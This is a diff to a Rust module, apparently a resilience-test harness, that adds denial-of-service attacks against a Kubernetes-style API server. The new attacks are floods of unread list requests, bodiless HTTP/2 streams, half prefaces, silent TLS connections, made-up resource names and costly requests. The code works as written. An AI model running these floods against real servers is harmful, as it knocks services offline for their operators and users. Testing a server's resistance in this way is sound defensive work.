@@ -4,7 +4,7 @@ use std::sync::Arc;
 use std::time::Duration;
 
 use fastrand::Rng;
-use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::io::{AsyncRead, AsyncReadExt, AsyncWriteExt};
 use tokio::net::TcpStream;
 use tokio_rustls::TlsConnector;
 use tokio_rustls::client::TlsStream;
@@ -12,6 +12,8 @@ use tokio_rustls::rustls::client::danger::{HandshakeSignatureValid, ServerCertVe
 use tokio_rustls::rustls::crypto::ring;
 use tokio_rustls::rustls::pki_types::{CertificateDer, ServerName, UnixTime};
 use tokio_rustls::rustls::{ClientConfig, DigitallySignedStruct, Error, SignatureScheme};
+
+use crate::bodies::{Costly, NOBODY, TENANT};
 
 /// A way to harm.
 #[derive(Clone, Copy, Debug)]
@@ -38,9 +40,21 @@ pub enum Attack {
     Continuations,
     /// Answers that nobody reads.
     Unread,
+    /// Lists in every format that nobody reads.
+    UnreadLists,
+    /// Names that nobody serves, always new ones.
+    MadeUpNames,
+    /// A connection on which nothing is said after the handshake.
+    SilentTls,
+    /// The first bytes of HTTP/2 and no more.
+    HalfPreface,
+    /// Requests whose bodies never come.
+    Bodiless,
+    /// Requests that are small to send and large to answer, one kind after the other.
+    Costly,
 }
 
-pub const ATTACKS: [Attack; 13] = [
+pub const ATTACKS: [Attack; 19] = [
     Attack::MalformedTls,
     Attack::HalfOpen,
     Attack::HalfHandshake,
@@ -54,7 +68,24 @@ pub const ATTACKS: [Attack; 13] = [
     Attack::Settings,
     Attack::Continuations,
     Attack::Unread,
+    Attack::UnreadLists,
+    Attack::MadeUpNames,
+    Attack::SilentTls,
+    Attack::HalfPreface,
+    Attack::Bodiless,
+    Attack::Costly,
 ];
+
+impl Attack {
+    /// How many do this at once.
+    pub fn attackers(self) -> usize {
+        match self {
+            // Each of these keeps the attacker's own side busy.
+            Self::Costly => 4,
+            _ => 12,
+        }
+    }
+}
 
 const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
 const HEADERS: u8 = 1;
@@ -68,13 +99,14 @@ const END_HEADERS: u8 = 4;
 pub struct Attacker {
     port: u16,
     token: &'static str,
+    costly: Arc<[Costly]>,
 }
 
 type Outcome = std::io::Result<()>;
 
 impl Attacker {
-    pub fn new(port: u16, token: &'static str) -> Self {
-        Self { port, token }
+    pub fn new(port: u16, token: &'static str, costly: Arc<[Costly]>) -> Self {
+        Self { port, token, costly }
     }
 
     /// One connection, to its end.
@@ -99,7 +131,29 @@ impl Attacker {
             Attack::Pings => self.repeated(&frame(PING, 0, 0, &[7; 8])).await,
             Attack::Settings => self.repeated(&frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])).await,
             Attack::Continuations => self.continuations().await,
-            Attack::Unread => self.unread().await,
+            Attack::Unread => {
+                let paths = ["/openapi/v2"; 50].map(|path| (path.to_owned(), "*/*"));
+                self.unread(self.token, &paths).await
+            }
+            Attack::UnreadLists => {
+                let formats = ["application/yaml", "application/json", "application/vnd.kubernetes.protobuf"];
+                let table = "application/json;as=Table;v=v1;g=meta.k8s.io";
+                let list = |i: usize| {
+                    let accept = formats.get(i % 4).copied().unwrap_or(table);
+                    ("/api/v1/namespaces/n/secrets".to_owned(), accept)
+                };
+                let lists: Vec<_> = (0..60).map(list).collect();
+                self.unread(TENANT, &lists).await
+            }
+            Attack::MadeUpNames => self.made_up_names(rng).await,
+            Attack::SilentTls => wait_out(self.tls(b"http/1.1").await?).await,
+            Attack::HalfPreface => {
+                let mut stream = self.tls(b"h2").await?;
+                stream.write_all(&PREFACE[..12]).await?;
+                wait_out(stream).await
+            }
+            Attack::Bodiless => self.bodiless().await,
+            Attack::Costly => self.costly(&self.costly[rng.usize(..self.costly.len())]).await,
         }
     }
 
@@ -209,16 +263,52 @@ impl Attacker {
         }
     }
 
-    /// Many requests for a large document.
-    async fn unread(&self) -> Outcome {
+    async fn made_up_names(&self, rng: &mut Rng) -> Outcome {
+        let mut stream = self.tls(b"http/1.1").await?;
+        for _ in 0..50 {
+            let (group, name) = (rng.u64(..), "n".repeat(rng.usize(1..5000)));
+            let path = format!("/apis/g{group}/v1/namespaces/n/r{group}/{name}/{name}");
+            stream.write_all(format!("GET {path} HTTP/1.1\r\nHost: x\r\n\r\n").as_bytes()).await?;
+        }
+        stream.shutdown().await?;
+        read_out(stream).await
+    }
+
+    /// Opens requests that say that they have a body, and leaves them open.
+    async fn bodiless(&self) -> Outcome {
+        let mut stream = self.http2().await?;
+        let path = "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews";
+        let field = literal("authorization", &format!("Bearer {NOBODY}"));
+        let block = [&[0x83, 0x87, 0x41, 1, b'x', 0x04], &length(path.len())[..], path.as_bytes(), &field].concat();
+        for i in 0..100 {
+            stream.write_all(&frame(HEADERS, END_HEADERS, 2 * i + 1, &block)).await?;
+        }
+        read_out(stream).await
+    }
+
+    async fn costly(&self, costly: &Costly) -> Outcome {
+        let mut stream = self.tls(b"http/1.1").await?;
+        let Costly { method, path, content_type, token, body } = costly;
+        let head = format!(
+            "{method} {path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token}\r\nContent-Type: {content_type}\r\n\
+             Content-Length: {}\r\nConnection: close\r\n\r\n",
+            body.len()
+        );
+        stream.write_all(head.as_bytes()).await?;
+        stream.write_all(body).await?;
+        read_out(stream).await
+    }
+
+    /// Many requests for something large.
+    async fn unread(&self, token: &str, requests: &[(String, &str)]) -> Outcome {
         let mut stream = self.http2().await?;
         // A window that would take all of them.
         stream.write_all(&frame(SETTINGS, 0, 0, &[0, 4, 0x7f, 0xff, 0xff, 0xff])).await?;
         stream.write_all(&frame(8, 0, 0, &[0x7f, 0, 0, 0])).await?;
-        let field = literal("authorization", &format!("Bearer {}", self.token));
-        let block = [&[0x82, 0x87, 0x41, 1, b'x', 0x04, 11], &b"/openapi/v2"[..], &field].concat();
-        for i in 0..50 {
-            stream.write_all(&frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, &block)).await?;
+        for (id, (path, accept)) in (1..).step_by(2).zip(requests) {
+            let fields = [literal("authorization", &format!("Bearer {token}")), literal("accept", accept)].concat();
+            let head = [&[0x82, 0x87, 0x41, 1, b'x', 0x04], &length(path.len())[..], path.as_bytes()].concat();
+            stream.write_all(&frame(HEADERS, END_STREAM | END_HEADERS, id, &[head, fields].concat())).await?;
         }
         tokio::time::sleep(Duration::from_secs(3)).await;
         Ok(())
@@ -261,7 +351,7 @@ fn length(mut length: usize) -> Vec<u8> {
 }
 
 /// Waits until the server has had enough.
-async fn wait_out(mut stream: TcpStream) -> Outcome {
+async fn wait_out(mut stream: impl AsyncRead + Unpin) -> Outcome {
     let mut sink = [0; 1024];
     while stream.read(&mut sink).await? > 0 {}
     Ok(())
